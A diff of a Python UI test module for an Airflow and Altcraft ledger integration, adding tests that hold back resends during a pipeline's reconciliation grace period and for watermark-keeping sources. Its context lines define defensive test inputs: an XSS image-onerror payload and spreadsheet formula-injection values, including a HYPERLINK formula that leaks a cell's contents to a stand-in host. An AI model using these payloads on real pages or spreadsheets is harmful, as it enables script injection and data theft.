@@ -27,7 +27,7 @@ import sqlalchemy as sa
 import altcraft
 from altcraft.ledger import Ledger, Outcome, RelaunchPolicy, RunRef, Scope, Settlement
 
-from .airflow_server import NOBODY, READABLE, RESTRICTED
+from .airflow_server import NOBODY, READABLE, RESTRICTED, SLOW_GRACE, WATERMARK
 
 REPO = Path(__file__).resolve().parents[2]
 PG = "postgresql+psycopg2://postgres@127.0.0.1:5432"
@@ -36,6 +36,7 @@ XSS = "<img src=x onerror=alert(1)>"
 FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)", "\tcmd", "\r=1")
 SCOPE, OLD = Scope("https://acme.altcraft.test", 7), Scope("https://acme.altcraft.test", 99)
 DIED = Scope("https://acme.altcraft.test", 8)
+PIPELINE = Scope("https://acme.altcraft.test", 11)  # the scenario of the pipelines of the server's PIPELINES
 ONCE = RelaunchPolicy.parse("once")
 USERS = {"admin": "admin-pw", "viewer": "viewer-pw", RESTRICTED: "restricted-pw", NOBODY: "nobody-pw"}
 
@@ -51,7 +52,7 @@ def _fill(ledger: Ledger) -> None:
     """Both DAGs' run ``r1`` with hostile reasons and source keys (``secret_dag``'s settled just now, an
     hour after ``open_dag``'s); a contact both DAGs sent; and an uncertain contact of another scenario
     whose only outcome is 40 days old; a contact of another scenario that a try of ``open_dag``'s run left
-    ``sending``."""
+    ``sending``; run ``r1`` of each pipeline DAG with a contact left uncertain an hour ago."""
     now = datetime.now(UTC)
     for dag_id, at in ((READABLE, now - timedelta(hours=1)), (SECRET, now)):  # uncertain: for long, just now
         run = RunRef.create(dag_id, "import_and_launch", "r1", 1)
@@ -81,6 +82,11 @@ def _fill(ledger: Ledger) -> None:
     ledger.claim(
         DIED, RunRef.create(READABLE, "import_and_launch", "r1", 1), [("email:died@example.org", "d")], ONCE
     )
+    for dag_id in (WATERMARK, SLOW_GRACE):
+        run, hour_ago = RunRef.create(dag_id, "import_and_launch", "r1", 1), now - timedelta(hours=1)
+        claim = ledger.claim(PIPELINE, run, [(f"email:{dag_id}@example.org", "row")], ONCE, now=hour_ago)
+        uncertain = {k: Settlement(Outcome.UNCERTAIN, text="timeout") for k in claim.to_send}
+        ledger.settle(PIPELINE, run, claim, uncertain, now=hour_ago)
     old, then = RunRef.create(READABLE, "import_and_launch", "old", 1), now - timedelta(days=40)
     claim = ledger.claim(OLD, old, [("email:old@example.org", "old row")], ONCE, now=then)
     ledger.settle(
@@ -139,7 +145,7 @@ def serving(home: Path, ledger_url: str) -> Generator[Page]:
     port = _free_port()
     log = (home / "server.log").open("w")
     server = subprocess.Popen(
-        [sys.executable, "-m", "tests.ui.airflow_server", str(port), READABLE, SECRET],
+        [sys.executable, "-m", "tests.ui.airflow_server", str(port), READABLE, SECRET, WATERMARK, SLOW_GRACE],
         cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT,
     )  # fmt: skip
     url = f"http://127.0.0.1:{port}"
@@ -406,6 +412,34 @@ def test_uncertain_contacts_are_never_resent_while_altcraft_may_still_process_th
     assert page.get("/plan", action="resend_uncertain", selected=[failed], **secret).status_code == 200
     assert page.get("/plan", action="reconcile", **secret).status_code == 200
     assert page.get("/plan", action="resend_uncertain", **RUN).status_code == 200  # uncertain for an hour
+
+
+def test_a_resend_waits_for_the_pipelines_own_reconciliation_grace(page):
+    """slow_grace_dag reconciles with a two-hour grace: its contact uncertain for an hour is not resent."""
+    answer = page.get("/plan", action="resend_uncertain", dag_id=SLOW_GRACE, run_id="r1")
+    assert answer.status_code == 409 and "less than 2h ago" in answer.json()["detail"]
+    assert page.get("/plan", action="reconcile", dag_id=SLOW_GRACE, run_id="r1").status_code == 200
+
+
+def test_a_source_keeping_a_position_gets_no_resend_or_relaunch_of_the_runs_contacts(page):
+    """watermark_dag's source reads past its watermark, not the run's window: a new run reads none of the
+    run's contacts, so it resends or relaunches none; reconciling and a dry run stay, saying so."""
+    run = {"dag_id": WATERMARK, "run_id": "r1"}
+    contact = PIPELINE.contact_hash(f"email:{WATERMARK}@example.org")
+    for action, selected in (
+        ("resend_uncertain", []),
+        ("resend_uncertain", [contact]),
+        ("relaunch_selected", [contact]),
+    ):
+        answer = page.get("/plan", action=action, selected=selected, **run)
+        assert answer.status_code == 400, (action, answer.status_code, answer.text)
+        assert "keeps a position" in answer.json()["detail"] and "Reconcile now" in answer.json()["detail"]
+    reconcile = page.get("/plan", action="reconcile", **run).json()
+    assert reconcile["people"] == 0 and "none of this run's contacts is sent again" in reconcile["message"]
+    assert "past its position" in page.get("/plan", action="dry_run", **run).json()["message"]
+    html = page.get("/run", **run).text
+    assert 'id="keeps-position"' in html
+    assert set(re.findall(r'data-action="(\w+)"', html)) == {"reconcile", "dry_run"}
 
 
 @pytest.fixture
